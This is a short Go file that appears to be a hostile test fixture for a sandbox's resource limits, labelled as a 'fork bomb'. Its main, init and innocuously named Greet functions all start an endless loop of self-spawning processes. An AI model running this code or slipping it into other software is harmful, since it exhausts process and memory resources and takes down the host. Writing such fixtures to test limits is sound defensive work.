// hostile: {"title":"fork bomb","family":"resources","expect":["limit"],"limit":["pids","wall","cpu","memory"]}
package main

import "os"

// Each process of it starts more of itself, and none waits for any.
func fork() {
	for {
		_, _ = os.StartProcess("/proc/self/exe", os.Args, &os.ProcAttr{Env: []string{"BOMB=1"}})
	}
}

func init() {
	if os.Getenv("BOMB") != "" {
		fork()
	}
}

func Greet(name string) string { fork(); return "" }

func main() { fork() }
